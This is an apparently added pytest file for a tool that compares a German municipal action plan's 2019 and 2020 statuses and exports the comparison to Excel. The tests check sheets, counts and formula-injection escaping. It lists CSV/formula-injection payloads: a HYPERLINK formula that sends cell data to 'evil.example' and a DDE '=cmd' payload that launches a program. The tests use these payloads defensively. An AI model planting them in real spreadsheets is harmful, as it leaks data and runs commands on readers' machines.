@@ -1,0 +1,169 @@
+"""The comparison as xlsx (`build --xlsx`): its sheets, and text that never becomes a formula."""
+
+from __future__ import annotations
+
+import csv
+
+import openpyxl
+import pytest
+from conftest import run_cli
+from openpyxl import Workbook
+
+from planreview.workbook import ALL_SHEET, CHANGE_LABELS, SHEET_ORDER, SUMMARY_SHEET, safe_cell
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Klick")',
+    "+1",
+    "-2",
+    "@SUM(A1:A9)",
+    "\tx",
+    "\r=1+1",
+    "=cmd|' /C calc'!A0",
+    "#N/A",
+]
+HEADER = [
+    "Nr.",
+    "Handlungsfeld",
+    "Maßnahme",
+    "Federführung",
+    "Ende",
+    "Status",
+    "Sachstand",
+    "Begründung",
+]
+
+
+def _csv(path, rows):
+    path.parent.mkdir(parents=True, exist_ok=True)
+    with path.open("w", encoding="utf-8", newline="") as handle:
+        csv.writer(handle, delimiter=";").writerows([HEADER, *rows])
+
+
+def _cells(workbook):
+    for sheet in workbook.worksheets:
+        for row in sheet.iter_rows():
+            yield from row
+
+
+def test_safe_cell_keeps_every_hostile_value_as_text(tmp_path):
+    workbook = Workbook()
+    sheet = workbook.active
+    for n, value in enumerate([*HOSTILE, "ok", 3, None, "a\x00b\x07c"], start=1):
+        safe_cell(sheet.cell(n, 1), value)
+    workbook.save(tmp_path / "x.xlsx")
+    reread = openpyxl.load_workbook(tmp_path / "x.xlsx")["Sheet"]
+    values = [reread.cell(n, 1).value for n in range(1, len(HOSTILE) + 5)]
+    assert values == [*HOSTILE, "ok", 3, None, "abc"]
+    for n, value in enumerate(HOSTILE, start=1):
+        cell = reread.cell(n, 1)
+        assert cell.data_type == "s", value
+        assert cell.quotePrefix == (value != "#N/A"), value  # Excel keeps it text when edited
+
+
+@pytest.fixture(scope="module")
+def exported(tmp_path_factory):
+    """2019 and 2020 with hostile text in every text column; the export of 2020."""
+    root = tmp_path_factory.mktemp("hostile")
+    inputs = root / "inputs"
+    _csv(
+        inputs / "Stand_2019.csv",
+        [
+            ["1.1", "Sprache", HOSTILE[0], "VHS", "2021", "laufend", "", ""],
+            ["1.2", "Sprache", "+1", "-2", "2019", "geplant", "", ""],
+            ["1.3", "Sprache", "Elterncafé", "VHS", "fortlaufend", "laufend", "", ""],
+            ["2.1", "@Arbeit", "Jobmesse", "Jobcenter", "2020", "laufend", "", ""],
+        ],
+    )
+    _csv(
+        inputs / "Stand_2020.csv",
+        [
+            ["1.1", "Sprache", HOSTILE[0], "VHS", "2021", "umgesetzt", "@SUM(A1:A9)", ""],
+            ["1.2", "Sprache", "+1", "-2", "2019", "geplant", "-2 Kurse", ""],
+            ["1.3", "Sprache", "Elterncafé", "VHS", "fortlaufend", "entfallen", "", HOSTILE[6]],
+            ["2.2", "@Arbeit", "=1+1", "=A1", "2022", "in Vorbereitung", "+49 5331", ""],
+        ],
+    )
+    target = root / "vergleich.xlsx"
+    code, out, err = run_cli(
+        "build", "--inputs", str(inputs), "--no-pdf", "-q", "--xlsx", str(target)
+    )
+    assert code == 0, err
+    assert out == f"Vergleich als Excel-Datei geschrieben: {target}\n"
+    return openpyxl.load_workbook(target)
+
+
+def test_no_cell_is_a_formula(exported):
+    kinds = {cell.data_type for cell in _cells(exported)}
+    assert "f" not in kinds and "e" not in kinds
+    texts = {cell.value for cell in _cells(exported) if isinstance(cell.value, str)}
+    assert {HOSTILE[0], "+1", "-2", "@SUM(A1:A9)", "=1+1", "=A1", HOSTILE[6]} <= texts
+
+
+def test_sheets_one_per_class_and_a_summary(exported):
+    assert exported.sheetnames == [
+        ALL_SHEET,
+        *(CHANGE_LABELS[k] for k in SHEET_ORDER),
+        SUMMARY_SHEET,
+    ]
+    for sheet in exported.worksheets:
+        assert sheet.freeze_panes in ("B2", "C2"), sheet.title
+        assert sheet.auto_filter.ref.startswith("A1:"), sheet.title
+        assert sheet.auto_filter.ref.endswith(str(sheet.max_row)), sheet.title
+
+
+def _rows(sheet):
+    rows = list(sheet.iter_rows(values_only=True))
+    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
+
+
+def test_all_measures_with_both_statuses_and_the_change(exported):
+    rows = _rows(exported[ALL_SHEET])
+    got = [(r["Nr."], r["Status 2019"], r["Status 2020"], r["Veränderung"]) for r in rows]
+    assert got == [
+        ("1.1", "in Umsetzung", "umgesetzt", "Vorangekommen"),
+        ("1.2", "nicht begonnen", "nicht begonnen", "Unverändert"),
+        ("1.3", "in Umsetzung", "entfallen", "Entfallen"),
+        ("2.1", "in Umsetzung", None, "Nicht mehr berichtet"),
+        ("2.2", None, "in Vorbereitung", "Neu aufgenommen"),
+    ]
+    assert rows[1]["Überfällig"] == "ja" and rows[1]["Federführung"] == "-2"
+    assert rows[2]["Begründung"] == HOSTILE[6]
+    assert rows[3]["Quelle"].startswith("Stand_2019.csv")
+
+
+def test_each_class_sheet_lists_its_measures(exported):
+    ids = {k: [r["Nr."] for r in _rows(exported[CHANGE_LABELS[k]])] for k in SHEET_ORDER}
+    assert ids == {
+        "progressed": ["1.1"],
+        "regressed": [],
+        "new": ["2.2"],
+        "removed": ["2.1"],
+        "dropped": ["1.3"],
+        "postponed": [],
+        "resumed": [],
+        "stalled": [],
+        "overdue": ["1.2"],
+        "unchanged": ["1.2"],
+        "no_response": [],
+    }
+
+
+def test_summary_by_field_counts(exported):
+    rows = {r["Handlungsfeld"]: r for r in _rows(exported[SUMMARY_SHEET])}
+    assert list(rows) == ["Sprache", "@Arbeit", "Insgesamt"]
+    total = rows["Insgesamt"]
+    assert (total["Maßnahmen 2019"], total["Maßnahmen 2020"]) == (4, 4)
+    assert rows["@Arbeit"]["Nicht mehr berichtet"] == 1
+    assert rows["@Arbeit"]["Neu aufgenommen"] == 1
+    assert rows["Sprache"]["umgesetzt 2020"] == 1
+    assert rows["Sprache"]["entfallen 2020"] == 1
+
+
+def test_xlsx_without_file_name_goes_beside_the_pdf(tmp_path, monkeypatch):
+    _csv(tmp_path / "in" / "Stand_2019.csv", [["1.1", "A", "Kurs", "VHS", "", "laufend", "", ""]])
+    _csv(tmp_path / "in" / "Stand_2020.csv", [["1.1", "A", "Kurs", "VHS", "", "laufend", "", ""]])
+    monkeypatch.chdir(tmp_path)
+    code, out, err = run_cli("build", "--inputs", "in", "--xlsx", "--no-pdf", "-q")
+    assert (code, err) == (0, "")
+    assert (tmp_path / "reports" / "bericht-2020.xlsx").is_file()
+    assert "reports/bericht-2020.xlsx" in out
